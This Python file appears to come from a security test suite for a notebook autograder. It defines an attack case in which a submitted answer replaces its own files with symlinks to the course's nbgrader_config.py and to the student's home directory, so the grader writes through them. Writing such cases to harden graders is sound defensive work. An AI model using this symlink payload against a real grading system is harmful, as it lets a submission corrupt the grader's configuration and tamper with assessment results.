"""While it is graded it replaces files and folders of its own by links, so that the grader writes through them."""

from __future__ import annotations

from grader.attacks.attack import Attack, Want
from grader.attacks.moves import answer

ATTACK = Attack(
    kind="writing",
    wants=Want.CHANGE,
    make=answer(
        """
import glob
import os
import shutil

for path, to in {NOTEBOOK: f"{HOME}/notes.txt", "timestamp.txt": f"{COURSE}/nbgrader_config.py"}.items():
    try:
        os.unlink(path)
    except OSError:
        pass
    os.symlink(to, path)
os.makedirs(f"{COURSE}/feedback", exist_ok=True)
try:
    os.symlink(f"{HOME}", f"{COURSE}/feedback/{STUDENT}")
except OSError:
    pass
"""
    ),
)
